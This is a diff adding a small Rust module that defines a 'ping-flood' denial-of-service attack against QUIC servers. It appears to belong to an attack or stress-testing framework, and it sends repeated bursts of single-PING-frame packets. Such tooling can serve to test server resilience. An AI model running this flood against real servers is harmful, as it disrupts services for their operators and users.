@@ -1,0 +1,30 @@
+//! PING frames.
+
+use courser_crypto::Space;
+
+use crate::attack::{Plan, Victim};
+
+use super::Crowd;
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "ping-flood",
+    labels: &["A33"],
+    summary: "packets with one PING frame each",
+    victim: Victim::Server,
+    make: || Box::new(ping_flood()),
+};
+
+fn ping_flood() -> Crowd {
+    Crowd::new(2, |connection, _, now| {
+        for _ in 0..BURST {
+            connection.send_packet(now, Space::Application, vec![vec![PING]]);
+        }
+    })
+}
+
+/// Packets of one connection in one turn.
+const BURST: usize = 32;
+
+/// The type of PING frames, which is all of the frame.
+const PING: u8 = 0x01;
